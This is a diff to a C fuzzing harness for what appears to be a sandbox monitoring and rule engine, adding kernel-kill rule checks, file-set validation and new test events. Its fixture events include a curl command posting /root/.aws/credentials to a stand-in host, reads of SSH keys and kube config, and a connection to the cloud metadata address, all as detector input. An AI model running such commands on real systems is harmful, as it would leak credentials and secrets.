@@ -23,7 +23,7 @@ int LLVMFuzzerInitialize(int *argc, char ***argv);
 int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);
 
 #define SEC 1000000000ull
-#define NR_EVENTS 12
+#define NR_EVENTS 13
 
 static FILE *real_stderr;
 static struct tev events[NR_EVENTS];
@@ -41,9 +41,13 @@ static void events__make(void)
 {
 	struct tev *t = events;
 
-	tev__exec(t++, 1, "/usr/bin/curl",
+	tev__exec(t, 1, "/usr/bin/curl",
 		  "curl|-s|http://x|-d|@/root/.aws/credentials");
-	tev__open(t++, 2, "/root/.ssh/id_rsa", 0);
+	t->ev.exec.filesets = 3;
+	t++->ev.exec.stdio[0] = VIGIL_FD_INET;
+	tev__open(t, 2, "/root/.ssh/id_rsa", 0);
+	t->ev.open.filesets = ~0ull;
+	t++->hdr.flags = VIGIL_F_KILLED;
 	tev__open(t++, 3, "/home/u/.kube/config", 01101);
 	tev__connect(t++, 4, "169.254.169.254", 80);
 	tev__connect(t++, 5, "::ffff:10.1.2.3", 443);
@@ -56,6 +60,7 @@ static void events__make(void)
 	t++->ev.exit_code = 9;
 	tev__exec(t++, 11, "", "./missing");
 	tev__open(t++, 12, "", 0);
+	tev__budget(t++, 13, "203.0.113.9", 443, 1 << 20, 1 << 20);
 }
 
 int LLVMFuzzerInitialize(int *argc, char ***argv)
@@ -91,6 +96,44 @@ static void on_act(void *ctx, const struct event *ev, enum act_level level,
 	      sb->profile->tune[rule->index].action == level);
 }
 
+/* The file sets of a set's first n, as bits. */
+static uint64_t filesets__mask(size_t n)
+{
+	return n == 64 ? ~0ull : (1ull << n) - 1;
+}
+
+/* An enforce: kernel rule kills on file sets it names, on the one kind
+ * of record it is about. */
+static void check_kernel(const struct ruleset *rs, const struct rule *r)
+{
+	if (!r->kernel_kind) {
+		CHECK(!r->kernel_bits);
+		return;
+	}
+	CHECK(r->events == EVBIT(r->kernel_kind));
+	CHECK(r->kernel_kind == EVENT_OPEN || r->kernel_kind == EVENT_EXEC);
+	CHECK(r->action == LEVEL_KILL && !r->window);
+	CHECK(r->kernel_bits &&
+	      !(r->kernel_bits & ~filesets__mask(rs->nr_filesets)));
+}
+
+/* Every profile once, numbered from 1 in order, and a kernel policy
+ * made of the set's own file sets. */
+static void check_profiles(const struct ruleset *rs)
+{
+	const struct profile *p;
+	uint64_t open_kill, exec_kill;
+	size_t n;
+
+	for (n = 0; (p = ruleset__profile_at(rs, n)); n++) {
+		CHECK(p->id == n + 1);
+		ruleset__kernel_policy(rs, p, &open_kill, &exec_kill);
+		CHECK(!((open_kill | exec_kill) &
+			~filesets__mask(rs->nr_filesets)));
+	}
+	CHECK(n == rs->nr_profiles + !!rs->owned_fallback);
+}
+
 /* A set that loaded is whole. */
 static void check_loaded(const struct ruleset *rs)
 {
@@ -107,6 +150,16 @@ static void check_loaded(const struct ruleset *rs)
 		CHECK(!r->window || (r->window->over_ns > 0 &&
 				     r->window->above >= 0 &&
 				     r->window->slot < rs->nr_windows));
+		check_kernel(rs, r);
+	}
+	for (size_t i = 0; i < rs->nr_filesets; i++) {
+		const struct fileset *f = &rs->filesets[i];
+
+		CHECK(f->index == (int)i && f->nr_paths > 0);
+		CHECK(rs->fileset_names[i] == f->name);
+		for (size_t j = 0; j < f->nr_paths; j++)
+			CHECK(f->paths[j][0] == '/' ||
+			      !strncmp(f->paths[j], "~/", 2));
 	}
 	for (size_t i = 0; i < rs->nr_profiles; i++) {
 		const struct profile *p = rs->profiles[i];
@@ -115,6 +168,7 @@ static void check_loaded(const struct ruleset *rs)
 		CHECK(p->threshold[LEVEL_ALERT] < p->threshold[LEVEL_FREEZE] &&
 		      p->threshold[LEVEL_FREEZE] < p->threshold[LEVEL_KILL]);
 	}
+	check_profiles(rs);
 }
 
 static void count(void *arg, const struct sb_state *sb)
@@ -138,6 +192,7 @@ static void run(const struct ruleset *rs)
 			struct tev *t = &events[i];
 
 			t->ev.ktime_ns = pass * 3600 * SEC + i * SEC;
+			t->ev.fileset_names = rs->fileset_names;
 			tev__sandbox(t, 7, "sb-7", NULL);
 			engine__event(e, &t->ev);
 			tev__sandbox(t, 8, "sb-8", profile);
